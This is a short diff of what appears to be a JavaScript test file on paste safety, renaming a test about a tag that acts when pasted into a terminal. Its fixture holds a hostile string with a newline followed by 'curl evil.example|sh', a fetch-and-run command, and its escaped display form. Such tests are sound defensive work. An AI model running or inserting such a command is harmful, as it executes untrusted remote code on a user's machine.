@@ -44,7 +44,7 @@ describe('a copy by the terminal', () => {
 	});
 });
 
-describe('a tag that would act when pasted', () => {
+describe('a tag that acts when pasted', () => {
 	const hostile = 'os:x\ncurl evil.example|sh\n';
 	const shown = 'os:x^Jcurl evil.example|sh^J';
 
